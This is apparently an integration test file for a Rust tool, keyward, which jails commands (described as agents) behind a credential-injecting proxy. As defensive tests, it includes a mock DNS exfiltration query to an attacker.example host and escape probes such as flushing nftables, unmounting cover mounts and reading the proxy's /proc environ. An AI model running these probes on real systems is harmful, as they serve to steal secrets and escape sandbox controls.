//! `keyward run --jail`: real namespaces, nftables and clients. Unchanged clients — those that
//! honour the proxy variables and those that ignore them (curl `--noproxy '*'`, Node 20
//! `fetch` and `https.get`, Python `socket` + `ssl`) — either reach the test upstream through
//! keyward with the credential injected or are refused with an audit entry; DNS is keyward's;
//! keyward's files and process are out of reach, also for a root command; nothing of the
//! jail outlives it. Skipped with a printed reason where the kernel refuses namespaces,
//! unless `KEYWARD_REQUIRE_JAIL` is set (CI sets it, so a skip fails there).

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use crate::adoption::{Scene, text};
use crate::support::eventually::{eventually, within};
use crate::support::upstream::echo;

/// The allowed request of the example rules.
const ALLOWED: &str = "https://api.github.com/repos/acme/keyward";
/// How long a jailed client may take.
const CLIENT_TIMEOUT: &str = "20";

/// Why the jail cannot be tested here, if it cannot.
fn unavailable() -> Option<String> {
    let probe = Command::new("unshare")
        .args(["--user", "--map-root-user", "--net", "--mount", "true"])
        .output();
    match probe {
        Ok(out) if out.status.success() => {}
        Ok(out) => {
            return Some(format!(
                "the kernel refuses user/network/mount namespaces: {}",
                String::from_utf8_lossy(&out.stderr).trim()
            ));
        }
        Err(e) => return Some(format!("cannot run unshare: {e}")),
    }
    for tool in ["nft", "ip"] {
        let found = ["/usr/sbin", "/sbin", "/usr/bin", "/bin"]
            .iter()
            .any(|d| Path::new(d).join(tool).exists());
        if !found {
            return Some(format!(
                "`{tool}` is not installed (scripts/test installs it)"
            ));
        }
    }
    None
}

/// True when the jail can be tested; prints why not otherwise (and fails where CI requires
/// the jail).
pub(crate) fn jail_available(test: &str) -> bool {
    match unavailable() {
        None => true,
        Some(reason) => {
            assert!(
                std::env::var_os("KEYWARD_REQUIRE_JAIL").is_none(),
                "{test}: the jail is required here but {reason}"
            );
            eprintln!("SKIP {test}: {reason}");
            false
        }
    }
}

/// Runs `script` with `sh -c` in `keyward run --jail`.
pub(crate) async fn jailed(scene: &Scene, script: &str) -> Output {
    let mut cmd = scene.keyward_run();
    cmd.arg("--jail").arg("--").args(["sh", "-c", script]);
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    scene.assert_no_secret(&out);
    out
}

/// The audit log `keyward run` wrote in the scene's directory.
fn audit(scene: &Scene) -> Vec<serde_json::Value> {
    let path = scene.work.path().join("logs/audit.jsonl");
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[tokio::test]
async fn clients_that_honour_the_proxy_variables_work_unchanged_in_the_jail() {
    if !jail_available("jail: proxy variables") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    let script = format!(
        "curl -sS --max-time {CLIENT_TIMEOUT} --fail-with-body -H \"Authorization: Bearer $GITHUB_TOKEN\" {ALLOWED}"
    );
    let out = jailed(&scene, &script).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("/repos/acme/keyward"), "{stdout}");
    let real = format!("Bearer {}", scene.secret("github"));
    assert_eq!(scene.last_authorization(), real, "injected upstream");
}

#[tokio::test]
async fn clients_that_ignore_the_proxy_variables_still_go_through_keyward() {
    if !jail_available("jail: transparent") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    let bearer = "-H \"Authorization: Bearer $GITHUB_TOKEN\"";
    // curl told to bypass every proxy.
    let script = format!(
        "curl -sS --noproxy '*' --max-time {CLIENT_TIMEOUT} --fail-with-body {bearer} {ALLOWED}"
    );
    let out = jailed(&scene, &script).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("/repos/acme/keyward"), "{stdout}");
    let real = format!("Bearer {}", scene.secret("github"));
    assert_eq!(scene.last_authorization(), real, "injected upstream");
    assert_eq!(scene.upstream.count(), 1);

    // Node's fetch and https.get, without any preload, with the variables in place
    // (which Node 20 ignores).
    if Command::new("node").arg("--version").output().is_ok() {
        let node = format!(
            r#"node -e '
const https = require("https");
const auth = {{ authorization: "Bearer " + process.env.GITHUB_TOKEN }};
fetch("{ALLOWED}", {{ headers: auth }})
  .then(r => r.text().then(t => {{ console.log("fetch", r.status, t.includes("/repos/acme/keyward")); }}))
  .then(() => new Promise((ok, no) => https.get("{ALLOWED}", {{ headers: auth }}, r => {{
      let b = ""; r.on("data", d => b += d);
      r.on("end", () => {{ console.log("get", r.statusCode, b.includes("/repos/acme/keyward")); ok(); }});
    }}).on("error", no)))
  .catch(e => {{ console.log("error", e.message, e.cause && e.cause.message); process.exit(3); }});
'"#
        );
        let out = jailed(&scene, &node).await;
        let (stdout, stderr) = text(&out);
        assert!(out.status.success(), "{stdout}\n{stderr}");
        assert!(stdout.contains("fetch 200 true"), "{stdout}\n{stderr}");
        assert!(stdout.contains("get 200 true"), "{stdout}\n{stderr}");
        assert_eq!(scene.upstream.count(), 3);
        assert_eq!(scene.last_authorization(), real);
    }

    // Java's HttpClient, which reads no proxy variable (only its own system properties); it
    // is given keyward's CA as a trust store, as a Java user would do.
    if Command::new("java").arg("-version").output().is_ok()
        && Command::new("keytool").arg("-help").output().is_ok()
    {
        let java = format!(
            r#"cd "$(mktemp -d)" && cat > Get.java <<'JAVA'
import java.net.URI;
import java.net.http.*;
public class Get {{
    public static void main(String[] a) throws Exception {{
        var req = HttpRequest.newBuilder(URI.create("{ALLOWED}"))
            .header("Authorization", "Bearer " + System.getenv("GITHUB_TOKEN")).build();
        var res = HttpClient.newHttpClient().send(req, HttpResponse.BodyHandlers.ofString());
        System.out.println("java " + res.statusCode() + " " + res.body().contains("/repos/acme/keyward"));
    }}
}}
JAVA
keytool -importcert -noprompt -alias keyward -file "$NODE_EXTRA_CA_CERTS" -keystore trust.p12 -storetype PKCS12 -storepass changeit >/dev/null
java -Djavax.net.ssl.trustStore=trust.p12 -Djavax.net.ssl.trustStorePassword=changeit Get.java"#
        );
        let before = scene.upstream.count();
        let out = jailed(&scene, &java).await;
        let (stdout, stderr) = text(&out);
        assert!(stdout.contains("java 200 true"), "{stdout}\n{stderr}");
        assert_eq!(scene.upstream.count(), before + 1);
        assert_eq!(scene.last_authorization(), real);
    }

    // Python's socket and ssl to a literal IP: no SNI, so no host to decide on: refused.
    let python = r#"python3 -c '
import socket, ssl
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection(("203.0.113.7", 443), timeout=10)
try:
    t = ctx.wrap_socket(s)
    t.sendall(b"GET / HTTP/1.1\r\nHost: api.github.com\r\n\r\n")
    print("answered", t.recv(100))
except Exception as e:
    print("refused", type(e).__name__)
'"#;
    let before = scene.upstream.count();
    let out = jailed(&scene, python).await;
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("refused"), "{stdout}\n{stderr}");
    assert_eq!(
        scene.upstream.count(),
        before,
        "nothing reached the upstream"
    );
    let entries = audit(&scene);
    assert!(
        entries
            .iter()
            .any(|e| e["decision"] != "allow"
                && e["reason"].as_str().is_some_and(|r| r.contains("SNI"))),
        "the refusal is audited: {entries:#?}"
    );
}

#[tokio::test]
async fn dns_is_keywards_and_other_udp_goes_nowhere() {
    if !jail_available("jail: DNS") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    // A TXT query for an exfiltration-looking name to a public resolver, an A query for an
    // admitted name, and UDP to an outside address (QUIC's port).
    let python = r#"python3 -c '
import socket, struct
def query(name, qtype):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ("8.8.8.8", 53))
    r, _ = s.recvfrom(4096)
    return r[3] & 0x0f, struct.unpack(">H", r[6:8])[0]
print("txt", *query("c2VjcmV0.attacker.example", 16))
print("a", *query("api.github.com", 1))
print("resolved", socket.gethostbyname("api.github.com"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
try:
    # The firewall drops it on the way out (the kernel may say so: EPERM).
    u.sendto(b"\xc0quic", ("203.0.113.7", 443))
    u.recvfrom(100); print("udp answered")
except (socket.timeout, PermissionError):
    print("udp nothing")
'"#;
    let out = jailed(&scene, python).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("txt 3 0"), "NXDOMAIN, no answer: {stdout}");
    assert!(stdout.contains("a 0 1"), "one answer: {stdout}");
    assert!(stdout.contains("resolved 198.18.0.1"), "{stdout}");
    assert!(stdout.contains("udp nothing"), "{stdout}");
    let entries = audit(&scene);
    let exfil = entries
        .iter()
        .find(|e| e["host"] == "c2VjcmV0.attacker.example")
        .unwrap_or_else(|| panic!("the query is audited: {entries:#?}"));
    assert_eq!(exfil["scheme"], "dns");
    assert_eq!(exfil["method"], "TXT");
    assert_ne!(exfil["decision"], "allow");
    assert_eq!(scene.upstream.count(), 0);
}

#[tokio::test]
async fn keywards_files_and_process_are_out_of_the_commands_reach() {
    if !jail_available("jail: isolation") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    let ca_dir = scene.ca_dir();
    // keyward writes its CA on first start: start once so the key exists to be hidden.
    let out = jailed(&scene, "true").await;
    assert!(out.status.success(), "{}", text(&out).1);
    let key = ca_dir.join("ca-key.pem");
    assert!(key.exists(), "the CA key is on disk outside the jail");
    // An admin token file: what approves held requests must stay out of the agent's reach.
    let admin_token = scene.work.path().join("admin.token");
    let admin_value = "kw-admin-token-the-agent-must-never-read";
    std::fs::write(&admin_token, admin_value).unwrap();
    // A local daemon's Unix socket (as Docker's or D-Bus's would be), named with --hide.
    let daemon = scene.work.path().join("daemon.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&daemon).unwrap();
    let secret_file = scene.rules.dir.path().join("secrets");
    assert!(std::fs::read_dir(&secret_file).unwrap().count() > 0);
    let script = format!(
        r#"
id -u
echo "ppid-proc: $(ls /proc | grep -c '^[0-9]')"
cat {key} >/dev/null 2>&1 && echo "KEY READ" || echo "key hidden"
echo "secret bytes: $(cat {secrets}/* 2>/dev/null | wc -c)"
echo "admin token: [$(cat {admin} 2>/dev/null)]"
cat "$SSL_CERT_FILE" >/dev/null && echo "bundle shown"
umount {ca} 2>/dev/null && echo "UNMOUNTED" || echo "cover stays"
touch {rules}/planted.yaml 2>/dev/null && echo "RULES WRITTEN" || echo "rules read-only"
nft flush ruleset 2>/dev/null && echo "FIREWALL FLUSHED" || echo "firewall stays"
cat /proc/$KEYWARD_PID/environ >/dev/null 2>&1 && echo "ENVIRON READ" || echo "keyward invisible"
python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' {daemon} 2>/dev/null && echo "DAEMON REACHED" || echo "daemon unreachable"
"#,
        daemon = daemon.display(),
        admin = admin_token.display(),
        key = key.display(),
        secrets = secret_file.display(),
        ca = ca_dir.display(),
        rules = scene.rules.path().display(),
    );
    // keyward's pid as the host sees it, which the command could not know otherwise.
    let pid_file = scene.work.path().join("keyward.pid");
    let wait_for_pid = format!(
        "i=0; while [ ! -s {f} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; KEYWARD_PID=$(cat {f})",
        f = pid_file.display()
    );
    let mut cmd = scene.keyward_run();
    cmd.arg("--jail")
        .arg("--admin-listen")
        .arg("127.0.0.1:0")
        .arg("--admin-token")
        .arg(format!("file:{}", admin_token.display()))
        .arg("--hide")
        .arg(&daemon)
        .arg("--")
        .args(["sh", "-c", &format!("{wait_for_pid}\n{script}")]);
    let child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::fs::write(&pid_file, child.id().to_string()).unwrap();
    let out = tokio::task::spawn_blocking(move || child.wait_with_output().unwrap())
        .await
        .unwrap();
    scene.assert_no_secret(&out);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    for line in [
        "key hidden",
        "secret bytes: 0",
        "bundle shown",
        "cover stays",
        "rules read-only",
        "firewall stays",
        "keyward invisible",
        "daemon unreachable",
        "admin token: []",
    ] {
        assert!(stdout.contains(line), "{line}:\n{stdout}\n{stderr}");
    }
    assert!(!stdout.contains("RULES WRITTEN"));
    assert!(!stdout.contains(admin_value) && !stderr.contains(admin_value));
    assert!(!scene.rules.path().join("planted.yaml").exists());
}

/// The network namespaces processes are in now, as `net:[inode]` links.
fn namespaces_in_use() -> Vec<String> {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok())
        .filter_map(|e| std::fs::read_link(e.path().join("ns/net")).ok())
        .map(|l| l.to_string_lossy().into_owned())
        .collect()
}

/// Host pids of processes in the namespace `ns`.
fn processes_in(ns: &str) -> Vec<u32> {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(Result::ok)
        .filter_map(|e| {
            let pid = e.file_name().to_string_lossy().parse::<u32>().ok()?;
            let link = std::fs::read_link(e.path().join("ns/net")).ok()?;
            (link.to_string_lossy() == ns).then_some(pid)
        })
        .collect()
}

/// Starts `keyward run --jail -- sh -c 'readlink …; sleep'` and returns it with the jail's
/// network namespace once the command reported it.
async fn sleeping_jail(scene: &Scene) -> (std::process::Child, String, std::path::PathBuf) {
    let marker = scene.work.path().join("ns");
    let script = format!(
        "readlink /proc/self/ns/net > {}.tmp && mv {0}.tmp {0}; exec sleep 600",
        marker.display()
    );
    let mut cmd = scene.keyward_run();
    cmd.arg("--jail").arg("--").args(["sh", "-c", &script]);
    cmd.stdout(Stdio::null()).stderr(Stdio::null());
    let child = cmd.spawn().unwrap();
    let ns = eventually(
        "the jailed command started",
        Duration::from_secs(20),
        || {
            std::fs::read_to_string(&marker)
                .ok()
                .map(|s| s.trim().to_owned())
        },
    )
    .await;
    (child, ns, marker)
}

#[tokio::test]
async fn nothing_of_the_jail_outlives_it() {
    if !jail_available("jail: clean-up") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;

    // A normal exit.
    let out = jailed(
        &scene,
        &format!(
            "readlink /proc/self/ns/net > {}",
            scene.work.path().join("ns-exit").display()
        ),
    )
    .await;
    assert!(out.status.success(), "{}", text(&out).1);
    let ns = std::fs::read_to_string(scene.work.path().join("ns-exit")).unwrap();
    let ns = ns.trim().to_owned();
    assert!(ns.starts_with("net:["), "{ns}");
    assert!(!namespaces_in_use().contains(&ns), "gone after exit");

    // The command killed from outside.
    let (mut child, ns, _) = sleeping_jail(&scene).await;
    // The marker is written just before the shell execs `sleep`: wait for the exec.
    let command = eventually(
        "the command is in the jail's namespace",
        Duration::from_secs(10),
        || {
            processes_in(&ns).into_iter().find(|p| {
                std::fs::read_to_string(format!("/proc/{p}/cmdline"))
                    .is_ok_and(|c| c.starts_with("sleep"))
            })
        },
    )
    .await;
    let _ = Command::new("kill")
        .arg("-9")
        .arg(command.to_string())
        .status();
    let status = tokio::task::spawn_blocking(move || child.wait().unwrap())
        .await
        .unwrap();
    assert_eq!(
        status.code(),
        Some(137),
        "killed by SIGKILL, as shells report"
    );
    let gone = within(Duration::from_secs(10), || {
        (!namespaces_in_use().contains(&ns)).then_some(())
    })
    .await;
    assert!(gone.is_some(), "gone after the command was killed");

    // keyward killed.
    let (mut child, ns, _) = sleeping_jail(&scene).await;
    child.kill().unwrap();
    let _ = child.wait();
    let gone = within(Duration::from_secs(10), || {
        processes_in(&ns).is_empty().then_some(())
    })
    .await;
    assert!(
        gone.is_some(),
        "the jail's processes end with keyward: {:?}",
        processes_in(&ns)
    );
}

#[tokio::test]
async fn an_unprivileged_user_gets_the_same_jail() {
    if !jail_available("jail: unprivileged") {
        return;
    }
    if !rustix::process::getuid().is_root() || !Path::new("/usr/bin/setpriv").exists() {
        eprintln!("SKIP jail: unprivileged: needs root and setpriv to become another user");
        return;
    }
    const NOBODY: u32 = 65534;
    let ca = crate::support::TestCa::new();
    let upstream =
        crate::support::Upstream::https(&ca, &["api.github.com"], &[b"http/1.1"], echo()).await;
    let dir = tempfile::tempdir().unwrap();
    let keyward = dir.path().join("keyward");
    std::fs::copy(env!("CARGO_BIN_EXE_keyward"), &keyward).unwrap();
    std::fs::copy(&ca.path, dir.path().join("upstream-ca.pem")).unwrap();
    std::fs::create_dir_all(dir.path().join("rules")).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        for path in ["", "rules", "upstream-ca.pem", "keyward"] {
            std::os::unix::fs::chown(dir.path().join(path), Some(NOBODY), Some(NOBODY)).unwrap();
        }
    }
    let script = format!(
        "id -u; cat certs/ca-key.pem >/dev/null 2>&1 && echo KEY READ || echo key hidden; \
         curl -sS --noproxy '*' --max-time {CLIENT_TIMEOUT} --fail-with-body {ALLOWED}"
    );
    let mut cmd = Command::new("/usr/bin/setpriv");
    cmd.args([
        format!("--reuid={NOBODY}"),
        format!("--regid={NOBODY}"),
        "--clear-groups".to_owned(),
    ])
    .arg(&keyward)
    .current_dir(dir.path())
    .env("HOME", dir.path())
    .args(["run", "--jail", "--ca-dir", "certs", "--rules", "rules"])
    .args([
        "--upstream-ca",
        "upstream-ca.pem",
        "--allow",
        "api.github.com",
    ])
    .arg("--resolve")
    .arg(format!("api.github.com:443:{}", upstream.addr))
    .args(["--", "sh", "-c", &script]);
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.starts_with("65534\n"),
        "the command keeps its user: {stdout}"
    );
    assert!(stdout.contains("key hidden"), "{stdout}");
    assert!(stdout.contains("/repos/acme/keyward"), "{stdout}\n{stderr}");
    assert_eq!(upstream.count(), 1);
}

#[tokio::test]
async fn keywards_lines_are_marked_beside_the_commands_own() {
    if !jail_available("jail: log lines") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    // A tunnel whose first bytes are not TLS: keyward warns.
    let python = r#"python3 -c '
import socket, sys, time
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT api.github.com:443 HTTP/1.1\r\nHost: api.github.com:443\r\n\r\n")
print(s.recv(100).split(b"\r\n")[0].decode())
s.sendall(b"hello, not TLS\r\n")
try:
    s.recv(100)
except OSError:
    pass
sys.stderr.write("the agent speaking\n")
'"#;
    let out = jailed(&scene, python).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("200"), "{stdout}");
    assert!(
        stderr.lines().any(|l| l == "the agent speaking"),
        "{stderr}"
    );
    let warning = stderr
        .lines()
        .find(|l| l.contains("not a TLS ClientHello"))
        .unwrap_or_else(|| panic!("keyward warned: {stderr}"));
    assert!(warning.starts_with("keyward: "), "{warning}");
    for line in stderr.lines().filter(|l| *l != "the agent speaking") {
        assert!(line.starts_with("keyward: "), "unmarked: {line}");
    }
}

#[tokio::test]
async fn a_kernel_without_user_namespaces_stops_the_jail_before_the_command_starts() {
    if !jail_available("jail: refused namespaces") {
        return;
    }
    let scene = Scene::start(&["api.github.com"], echo()).await;
    let marker = scene.work.path().join("ran");
    // A user namespace whose limit on nested user namespaces is 0: what a kernel that
    // refuses them looks like from inside.
    let mut inner = scene.keyward_run();
    inner
        .arg("--jail")
        .arg("--")
        .args(["touch", &marker.display().to_string()]);
    let program = format!("{:?}", inner.get_program());
    let args: Vec<String> = inner
        .get_args()
        .map(|a| format!("'{}'", a.to_string_lossy()))
        .collect();
    let script = format!(
        "echo 0 > /proc/sys/user/max_user_namespaces && exec {program} {}",
        args.join(" ")
    );
    let mut cmd = Command::new("unshare");
    cmd.args(["--user", "--map-root-user", "sh", "-c", &script])
        .current_dir(scene.work.path());
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("cannot create the jail's user namespace")
            && stderr.contains("unprivileged user namespaces"),
        "says what is missing: {stderr}"
    );
    assert!(!marker.exists(), "the command never started");
}
